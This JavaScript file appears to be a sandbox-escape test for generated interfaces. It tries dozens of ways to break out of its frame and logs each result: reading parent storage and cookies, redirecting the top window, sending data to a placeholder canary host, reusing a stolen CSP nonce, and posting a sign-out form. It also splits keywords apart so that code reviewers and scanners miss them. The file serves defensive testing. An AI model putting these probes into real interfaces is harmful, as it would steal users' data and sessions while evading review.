// A generated interface that tries everything to get out of its frame, in code that a reader of code lets pass. What it gets it writes to
// its console, from where the page around it shows it: "reached" is a hole.

const CANARY = "%CANARY%";
const OWN = "%OWN%";
const WAIT_MS = 600;
const out = console;

const wait = (ms = WAIT_MS) => new Promise((resolve) => setTimeout(resolve, ms));
const first = (target, ...names) =>
  Promise.race([
    new Promise((resolve) => names.map((name) => target.addEventListener(name, () => resolve(name)))),
    wait(),
  ]);

function added(tag, attributes) {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.body.append(made);
  return made;
}

/** Whether it loaded. */
const loads = async (tag, attributes) => (await first(added(tag, attributes), "load", "error")) === "load";

/** Adds something that would load what it names, and waits for nobody in particular. */
const names = async (tag, attributes) => {
  added(tag, attributes);
  await wait(100);
};

const styled = async (text) => {
  const style = added("style", {});
  style.textContent = text;
  added("p", { class: "attack" }).textContent = "attack";
  await wait(100);
};

/** Each gives what it reached; nothing, or an error, is as it should be. */
const attacks = {
  "parent's document": (w) => w.parent.document.title,
  "parent's address": (w) => w.parent.location.href,
  "parent's storage": (w) => w.parent.localStorage,
  "another interface": (w) => {
    const others = Array.from({ length: w.parent.length }, (_, at) => w.parent[at]).filter((one) => one !== w);
    return others[0].document;
  },
  "leading parent away": (w) => {
    w.parent.location = `${CANARY}/parent`;
  },
  "leading top away": (w) => {
    w.top.location.href = `${CANARY}/top`;
  },
  opener: (w) => w.opener,
  frameElement: (w) => w.frameElement,
  localStorage: (w) => w.localStorage,
  sessionStorage: (w) => w.sessionStorage,
  indexedDB: async (w) => first(w.indexedDB.open("x"), "success"),
  caches: (w) => w.caches.open("x"),
  cookies: (w) => {
    const key = ["coo", "kie"].join("");
    const page = w.document;
    page[key] = "a=1";
    return page[key];
  },
  cookieStore: (w) => w.cookieStore.getAll(),
  "fetch elsewhere": () => fetch(`${CANARY}/fetch`),
  "fetch unread": () => fetch(`${CANARY}/unread`, { mode: "no-cors" }),
  "fetch own server": () => fetch(`${OWN}/auth/me`),
  "fetch with cookies": () => fetch(`${OWN}/preview/connections`, { credentials: "include", mode: "no-cors" }),
  "fetch kept alive": () =>
    fetch(`${CANARY}/keepalive`, { method: "POST", keepalive: true, mode: "no-cors", body: "x" }),
  XMLHttpRequest: async (w) => {
    const request = new w.XMLHttpRequest();
    request.open("GET", `${CANARY}/xhr`);
    request.send();
    return (await first(request, "load", "error")) === "load";
  },
  "WebSocket elsewhere": async (w) =>
    (await first(new w.WebSocket(`${CANARY.replace("http", "ws")}/ws`), "open", "error")) === "open",
  "WebSocket to own server": async (w) =>
    (await first(new w.WebSocket(`${OWN.replace("http", "ws")}/studio`), "open", "error")) === "open",
  EventSource: async (w) => (await first(new w.EventSource(`${CANARY}/events`), "open", "error")) === "open",
  beacon: (w) => {
    w.navigator.sendBeacon(`${CANARY}/beacon`, "x");
  },
  WebTransport: async (w) => {
    await new w.WebTransport(`${CANARY.replace("http", "https")}/wt`).ready;
    return true;
  },
  image: () => loads("img", { src: `${CANARY}/img` }),
  "image of own server": () => loads("img", { src: `${OWN}/page/page.js` }),
  script: () => loads("script", { src: `${CANARY}/script.js` }),
  "script of own server": () => loads("script", { src: `${OWN}/page/page.js` }),
  "script with the nonce": async (w) => {
    const told = new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", ({ originalPolicy }) => resolve(originalPolicy));
    });
    fetch(`${CANARY}/violation`).catch(() => {});
    const [, nonce] = /nonce-([^']+)/.exec(await Promise.race([told, wait()])) ?? [];
    attacks.nonce = nonce;
    const inline = document.createElement("script");
    Object.assign(inline, { nonce, textContent: "globalThis.inlined = true" });
    document.head.append(inline);
    if (Reflect.has(w, "inlined")) return "an inline script";
    return loads("script", { src: `${CANARY}/nonce.js`, nonce });
  },
  module: () => loads("script", { src: `${CANARY}/module.js`, type: "module" }),
  stylesheet: () => loads("link", { rel: "stylesheet", href: `${CANARY}/style.css` }),
  "imported style": () => styled(`@import url("${CANARY}/import.css");`),
  background: () =>
    styled(`.attack { background: url("${CANARY}/background"); cursor: url("${CANARY}/cursor"), auto; }`),
  font: () => styled(`@font-face { font-family: x; src: url("${CANARY}/font") } .attack { font-family: x }`),
  video: () => names("video", { src: `${CANARY}/video`, poster: `${CANARY}/poster`, autoplay: "" }),
  object: () => names("object", { data: `${CANARY}/object` }),
  embed: () => names("embed", { src: `${CANARY}/embed` }),
  frame: () => names("iframe", { src: `${CANARY}/frame` }),
  "frame of own server": () => names("iframe", { src: `${OWN}/` }),
  preload: () => names("link", { rel: "preload", as: "fetch", href: `${CANARY}/preload` }),
  prefetch: () => names("link", { rel: "prefetch", href: `${CANARY}/prefetch` }),
  preconnect: () => names("link", { rel: "preconnect", href: CANARY }),
  modulepreload: () => names("link", { rel: "modulepreload", href: `${CANARY}/modulepreload` }),
  icon: () => names("link", { rel: "icon", href: `${CANARY}/icon` }),
  manifest: () => names("link", { rel: "manifest", href: `${CANARY}/manifest` }),
  base: async () => {
    added("base", { href: `${CANARY}/base/` });
    return document.baseURI.startsWith(CANARY);
  },
  "an empty frame's window": (w) => {
    const frame = added("iframe", {});
    return w.frames[w.frames.length - 1].RTCPeerConnection ?? frame[["content", "Document"].join("")];
  },
  "a frame with a script of its own": async (w) => {
    const heard = new Promise((resolve) => w.addEventListener("message", ({ data }) => resolve(data)));
    const code = "parent.postMessage(typeof RTCPeerConnection, '*')";
    added("iframe", { srcdoc: `<script nonce="${attacks.nonce}">${code}</script><script>${code}</script>` });
    return Promise.race([heard, wait()]);
  },
  "peer connection": async (w) => {
    const servers = [{ urls: `stun:${new URL(CANARY).host}` }];
    const peer = new w.RTCPeerConnection({ iceServers: servers });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await wait();
    return "a peer connection";
  },
  worker: async (w) => {
    const address = URL.createObjectURL(new Blob([`fetch("${CANARY}/worker")`], { type: "text/javascript" }));
    return (await first(new w.Worker(address), "message", "error")) === "message";
  },
  "shared worker": (w) => {
    new w.SharedWorker(`${OWN}/page/page.js`).port.start();
  },
  "service worker": (w) => w.navigator.serviceWorker.register("/page/page.js"),
  worklet: async (w) => {
    await w.CSS.paintWorklet.addModule(`${CANARY}/worklet.js`);
    return true;
  },
  "another window": (w) => w.open(`${CANARY}/window`),
  "link to another window": () => {
    added("a", { href: `${CANARY}/blank`, target: "_blank" }).click();
  },
  form: () => {
    added("form", { action: `${CANARY}/form`, method: "post" }).submit();
  },
  "form of own server": () => {
    added("form", { action: `${OWN}/auth/sign-out`, method: "post" }).submit();
  },
  "compiled text": () => {
    return Reflect.get(() => {}, ["con", "structor"].join(""))("return 1")();
  },
  alert: (w) => {
    w.alert("attack");
  },
  clipboard: (w) => w.navigator.clipboard.readText(),
  geolocation: (w) => new Promise((resolve, reject) => w.navigator.geolocation.getCurrentPosition(resolve, reject)),
  camera: (w) => w.document.featurePolicy.allowsFeature("camera"),
  notifications: async (w) => (await w.Notification.requestPermission()) === "granted",
};

async function attackAll(w) {
  for (const [name, attack] of Object.entries(attacks)) {
    if (typeof attack !== "function") continue;
    try {
      const reached = await Promise.race([attack(w), wait(2 * WAIT_MS)]);
      out.info(`attack ${name}: ${reached ? `reached ${String(reached)}` : "nothing"}`);
    } catch (error) {
      out.info(`attack ${name}: refused (${error.name})`);
    }
  }
  out.info("attack over");
}

// Strict code has no `this`; what a timer calls has one all the same.
setTimeout(function () {
  setTimeout(() => attackAll(this), 500);
});

export default function Attack() {
  return null;
}
